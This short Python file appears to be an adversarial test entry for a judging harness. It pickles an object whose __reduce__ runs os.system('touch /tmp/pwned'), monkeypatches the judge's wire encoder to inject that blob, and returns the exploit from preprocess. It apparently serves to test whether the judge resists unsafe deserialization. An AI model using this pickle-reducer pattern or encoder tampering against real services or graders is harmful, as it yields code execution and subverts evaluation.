"""Tries to make the judge unpickle or evaluate code: reducers, tagged values, raw frames.

proof: ATTACK pickle-payload: ran
"""

import base64
import os
import pickle

import tpdl.judge.wire


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned",))


blob = base64.b64encode(pickle.dumps(Exploit())).decode()
original_encode = tpdl.judge.wire.encode


def evil_encode(value):
    return {"__ndarray__": {"dtype": "object", "shape": [1], "data": blob}, "__pickle__": blob}


tpdl.judge.wire.encode = evil_encode


def preprocess(images, labels):
    print("ATTACK pickle-payload: ran", flush=True)
    return Exploit(), {"__reduce__": blob}
